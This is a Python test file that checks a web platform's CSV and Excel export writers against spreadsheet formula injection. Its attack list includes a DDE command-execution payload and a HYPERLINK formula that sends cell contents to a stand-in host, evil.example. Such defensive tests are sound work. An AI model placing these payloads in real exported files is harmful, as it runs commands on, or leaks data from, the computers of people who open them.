"""Goal D6: no cell of a table taken away runs as a formula on the computer of whoever opens it; every export uses that writer."""

import ast
import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from duban.web import tables
from duban.web.tables import csv_lines, xlsx_file

SOURCE = Path(__file__).parents[3] / "platform" / "duban"
ATTACKS = [
    f"{space}{start}{rest}"
    for space in ("", " ", "   ")
    for start in ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\t=", "\r\n=", "\0=", "＝", "＋", "－", "＠")
    for rest in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1)', "SUM(A1:A9)", "")
]
HARMLESS = ["整改报告", "2026-03-10", "a=b", "5-3", "1,200.50", "a@b.cn", "'quoted'", "", "·", "第1项：=", "（＋）"]
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
NOT_FOR_SPREADSHEETS = {
    "backup/making.py": "the list of a backup's files, read by duban restore",
    "simulation/calendar_rows.py": "working days for duban's own reader, from a calendar library",
    "console/divisions.py": "administrative divisions on their way into the importer",
    "console/exporting.py": "a tenant's archive, read back by duban; a changed cell would not be the tenant's",
}


def dangerous(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell.lstrip(" ").startswith(RUNS)]


def written_csv(values: list[str]) -> list[str]:
    text = "".join(csv_lines(["表头", *values], [[value, value] for value in values]))
    return [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")) for cell in row]


def written_xlsx(values: list[str]) -> list[tuple[str, str]]:
    with xlsx_file([("表", ["表头", *values], [[value, value] for value in values])]) as file:
        sheet = load_workbook(file).active
        return [(str(cell.value), cell.data_type) for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_no_cell_of_a_csv_begins_like_a_formula() -> None:
    cells = written_csv(ATTACKS)
    print(f"{len(ATTACKS)} attacks, {len(cells)} cells, {len(dangerous(cells))} would run")
    assert len(cells) > 3 * len(ATTACKS) - 10
    assert not dangerous(cells)


def test_no_cell_of_a_workbook_begins_like_a_formula_or_is_one() -> None:
    cells = written_xlsx(ATTACKS)
    print(f"{len(cells)} cells, {len(dangerous([value for value, _ in cells]))} would run")
    assert not dangerous([value for value, _ in cells])
    assert {kind for _, kind in cells} == {"s"}


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_as_it_is(text: str) -> None:
    assert text in written_csv([text]) or not text


def test_control_a_writer_that_neutralises_nothing_is_found(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "safe_text", lambda text: text.replace("\0", ""))
    assert dangerous(written_csv(ATTACKS))


def test_every_table_is_written_by_the_one_writer() -> None:
    found = {}
    for path in SOURCE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            name = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
            if name in {"csv.writer", "csv.DictWriter", "Workbook", "openpyxl.Workbook"}:
                found[str(path.relative_to(SOURCE))] = name
    print(f"writers of tables: {found}")
    assert found.pop("web/tables.py")
    assert set(found) == set(NOT_FOR_SPREADSHEETS), "write tables with duban.web.tables"
